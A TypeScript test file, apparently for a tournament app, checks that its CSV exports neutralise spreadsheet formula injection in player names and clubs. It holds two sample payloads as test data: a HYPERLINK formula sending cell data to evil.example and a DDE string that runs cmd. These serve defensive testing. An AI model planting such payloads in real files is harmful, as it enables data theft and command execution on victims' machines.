import { checkText } from '@app/rules';
import { createRegistry } from '@app/rulesets';
import fc from 'fast-check';
import Papa from 'papaparse';
import type { CompetitionActor } from './competition/commands';
import { standingsOf } from './competition/results';
import { currentRound } from './competition/state';
import { csvField, toCsv } from './csv';
import { pairingsCsv, standingsCsv } from './exports';
import { CompetitionDriver, createdCompetition } from './testing/driver';

/** The built-in games, which these events play. */
const RULESETS = createRegistry();

/** What a spreadsheet reads as the start of a formula, after any leading whitespace (OWASP's list, and the full-width forms). */
const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
/** A cell the export writes as a number. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]\d+)?$/;

/** The cells of a CSV text as a standard parser reads them (the last line's CRLF ends it, it starts no row). */
function parse(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(0, -2), { delimiter: ',', newline: '\r\n', quoteChar: '"', header: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** The text a person typed, from a text cell: the neutralising apostrophe, when there is one, dropped (docs/api.md). */
const typed = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B3,"Open")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('CSV cells', () => {
  it('neutralise text a spreadsheet would run as a formula: an apostrophe in front, the cell quoted', () => {
    expect(csvField(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/steal?d=""&B3,""Open"")"`);
    expect(csvField(DDE)).toBe(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    for (const text of ['+1+2', '-2+3', '  =1+1', '\t=1', '\r=1', '\n@x', '\u00a0-1', '\uff1dSUM(A1)', '-Infinity'])
      expect(csvField(text)).toBe(`"'${text}"`);
    // A text that starts with an apostrophe gets one more, so that dropping one always gives the text back.
    expect(csvField("'quoted")).toBe(`"''quoted"`);
  });

  it('write numbers the export computes as numbers, negative ones too, and leave plain text as it was', () => {
    expect([-3, 0, 2.5, 1200, -0.25].map(csvField)).toEqual(['-3', '0', '2.5', '1200', '-0.25']);
    expect(csvField(-Infinity)).toBe(`"'-Infinity"`);
    expect([true, false, null, undefined].map(csvField)).toEqual(['true', 'false', '', '']);
    expect(['Anna Nowak', 'Łódź Club', 'r1-2', 'BYE', 'a = b', '3-1'].map(csvField)).toEqual([
      'Anna Nowak',
      'Łódź Club',
      'r1-2',
      'BYE',
      'a = b',
      '3-1',
    ]);
    expect(csvField('Smith, Jr. "The Hammer"')).toBe('"Smith, Jr. ""The Hammer"""');
  });

  it('never start with a formula once parsed back, and read back as the text that was written', () => {
    // Any text: the characters that matter here often, and any UTF-16 unit or code point (lone surrogates too).
    const unit = fc.oneof(
      fc.constantFrom('=', '+', '-', '@', ' ', '\t', '\r', '\n', '\u00a0', "'", '"', ',', '\uff1d'),
      fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
      fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)),
    );
    const triggered = fc
      .tuple(fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\u00a0', "'"), fc.constantFrom('=', '+', '-', '@', '\uff1d', '\t', "'"))
      .chain(([space, trigger]) => fc.string({ unit, maxLength: 30 }).map((rest) => `${space}${trigger}${rest}`));
    const text = fc.oneof(fc.string({ unit, maxLength: 40 }), triggered);
    fc.assert(
      fc.property(text, text, (a, b) => {
        const [row] = parse(toCsv([[a, 7, b, -3]]));
        expect(row).toHaveLength(4);
        for (const cell of [row[0], row[2]]) expect(cell).not.toMatch(FORMULA_START);
        expect([typed(row[0]), row[1], typed(row[2]), row[3]]).toEqual([a, '7', b, '-3']);
      }),
      { numRuns: 300 },
    );
  });

  it('keep every finite number a number, read back as written', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (n) => {
        const [row] = parse(toCsv([[n]]));
        expect(row[0]).toBe(String(n));
        expect(Number(row[0])).toBe(n === 0 ? 0 : n);
      }),
      { numRuns: 200 },
    );
  });
});

describe('CSV for a spreadsheet', () => {
  it('starts with a UTF-8 byte-order mark when asked, so Excel reads Polish letters as UTF-8', () => {
    const text = toCsv([['name'], ['Zofia Łukasiewicz']], { byteOrderMark: true });
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1)).toBe(toCsv([['name'], ['Zofia Łukasiewicz']]));
    expect(toCsv([['name']]).startsWith('\uFEFF')).toBe(false);
  });

  it('separates by semicolons with a decimal comma, quoting what holds a semicolon and leaving commas in text as they are', () => {
    expect(toCsv([['Anna Nowak', 'Hetman, Kraków', 'a;b', 2.5, -3, 1200, true, null]], { separator: ';' })).toBe(
      'Anna Nowak;Hetman, Kraków;"a;b";2,5;-3;1200;true;\r\n',
    );
    // Formulas are neutralised alike.
    expect(toCsv([['=1+1', '-Warszawa']], { separator: ';' })).toBe(`"'=1+1";"'-Warszawa"\r\n`);
  });

  it('reads back, separated by semicolons, as the text that was written', () => {
    const unit = fc.oneof(fc.constantFrom('=', '+', '-', '@', ' ', ';', ',', '"', "'", '\n', 'ł'), fc.string({ maxLength: 3 }));
    const text = fc.string({ unit, maxLength: 30 });
    fc.assert(
      fc.property(text, text, fc.double({ noNaN: true, noDefaultInfinity: true }), (a, b, n) => {
        const written = toCsv([[a, n, b]], { separator: ';', byteOrderMark: true });
        const parsed = Papa.parse<string[]>(written.slice(1, -2), { delimiter: ';', newline: '\r\n', quoteChar: '"', header: false });
        expect(parsed.errors).toEqual([]);
        const [row] = parsed.data;
        expect([typed(row[0]), Number(row[1].replace(',', '.')), typed(row[2])]).toEqual([a, n === 0 ? 0 : n, b]);
      }),
      { numRuns: 200 },
    );
  });
});

/** Names and clubs as people type them: any letters, spaces, quotes, commas and formula triggers, valid by the rules of names. */
const nameArb = fc
  .array(
    fc.oneof(
      fc.constantFrom('=', '+', '-', '@', ' ', '\t', "'", '"', ',', '|', '!', '(', ')', '\uff1d', '\u00a0'),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 6 }),
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) => parts.join('').slice(0, 60))
  .filter((s) => s.trim() !== '' && checkText(s, 'name', 'name') === null);

const player = (playerId: string): CompetitionActor => ({ kind: 'player', playerId });

/** A Swiss round of the given players, settled, with a penalty that makes one score negative. */
function playedEvent(people: Array<{ name: string; club: string | null }>): CompetitionDriver {
  const t = new CompetitionDriver(createdCompetition({ kind: 'swiss', rounds: 3, topCut: null }, RULESETS), RULESETS);
  people.forEach((p, i) => t.run({ type: 'register', playerId: `p${i + 1}`, name: p.name, accountId: null, club: p.club, seed: null }));
  t.run({ type: 'pairRound', repair: false });
  const round = currentRound(t.state)!;
  t.run({ type: 'startRound', round: round.round, ids: [] });
  for (const id of round.games) {
    const g = t.state.games[id];
    if (g.b === null) continue;
    t.run(
      {
        type: 'report',
        game: id,
        winner: g.a,
        draw: false,
        scores: { [g.a]: { reputation: 80 }, [g.b]: { reputation: 20 } },
        reason: null,
      },
      player(g.a),
    );
    t.run({ type: 'confirm', game: id }, player(g.b));
  }
  t.run({ type: 'adjustPoints', playerId: 'p1', round: null, points: -7, reason: 'late list' });
  return t;
}

describe('exports', () => {
  /** The columns each export writes as numbers; every other column is text. */
  const STANDINGS_NUMBERS = ['rank', 'score', 'points', 'wins', 'draws', 'losses', 'byes', 'played'];
  const PAIRINGS_NUMBERS = ['round', 'table'];

  function checkCells(rows: string[][], numbers: string[], extra: (column: string) => boolean) {
    const [header, ...lines] = rows;
    for (const line of lines) {
      expect(line).toHaveLength(header.length);
      line.forEach((cell, i) => {
        if (numbers.includes(header[i]) || extra(header[i])) expect(cell).toMatch(cell === '' ? /^$/ : NUMBER);
        else expect(cell).not.toMatch(FORMULA_START);
      });
    }
  }

  it('pairings and standings: no cell starts a formula, names and clubs read back as typed, numbers stay numbers', () => {
    const people = fc.record({ name: nameArb, club: fc.option(nameArb, { nil: null }) });
    fc.assert(
      fc.property(fc.array(people, { minLength: 3, maxLength: 7 }), (list) => {
        const t = playedEvent(list);
        const rows = standingsOf(t.state, { mode: 'settled' });
        const standings = parse(standingsCsv(t.state, rows));
        const tieBreaks = t.state.created.tieBreaks;
        checkCells(standings, STANDINGS_NUMBERS, (column) => tieBreaks.includes(column) || column === 'reputation');
        const col = (name: string) => standings[0].indexOf(name);
        for (const line of standings.slice(1)) {
          const p = t.state.players[line[col('player_id')]];
          expect(typed(line[col('name')])).toBe(p.name);
          expect(typed(line[col('club')])).toBe(p.club ?? '');
        }
        // The penalised player's score is the number the export computed, negative and unquoted.
        const penalised = rows.find((r) => r.playerId === 'p1')!;
        expect(penalised.score).toBeLessThan(0);
        expect(standings.find((l) => l[col('player_id')] === 'p1')![col('score')]).toBe(String(penalised.score));

        const pairings = parse(pairingsCsv(t.state, 1));
        checkCells(pairings, PAIRINGS_NUMBERS, () => false);
        const names = new Set(Object.values(t.state.players).map((p) => p.name));
        for (const line of pairings.slice(1)) for (const i of [3, 4]) expect(names.has(typed(line[i])) || line[i] === 'BYE').toBe(true);
      }),
      { numRuns: 40 },
    );
  });

  it('a player named with a HYPERLINK formula and a club with a DDE payload are written inert', () => {
    const t = playedEvent([
      { name: HYPERLINK, club: DDE },
      { name: 'Anna Nowak', club: 'Hetman' },
      { name: 'Jan Kowalski', club: null },
    ]);
    const standings = standingsCsv(t.state, standingsOf(t.state, { mode: 'settled' }));
    const pairings = pairingsCsv(t.state, 1);
    for (const text of [standings, pairings]) {
      expect(text).not.toMatch(/(^|,)\s*[=@]/m);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal?d=""&B3,""Open"")"`);
    }
    expect(standings).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
  });
});
